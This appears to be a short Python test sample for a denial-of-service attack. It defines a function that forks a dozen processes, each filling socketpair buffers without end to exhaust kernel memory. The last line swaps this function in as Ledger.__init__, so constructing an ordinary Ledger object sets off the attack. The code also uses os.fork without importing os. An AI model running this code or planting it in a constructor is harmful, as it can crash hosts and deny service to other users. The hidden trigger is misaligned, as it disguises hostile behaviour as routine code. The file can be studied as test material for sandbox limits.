"""Fills the buffers of unread sockets in many processes: kernel memory that belongs to no process.

Buffers have the kernel's default size, and the descriptors of all its processes are counted.
"""
# stops: strong, reduced, practice
# seen: limit: more than 1,024 files and sockets

import socket
import time


def _bomb(self, engine, gateway):
    for _ in range(12):
        if os.fork() == 0:
            break
    held = []
    try:
        while True:
            held.append(socket.socketpair())
            held[-1][0].setblocking(False)
            while True:
                try:
                    held[-1][0].send(bytes(100_000))
                except BlockingIOError:
                    break
    except OSError:
        time.sleep(20)


Ledger.__init__ = _bomb
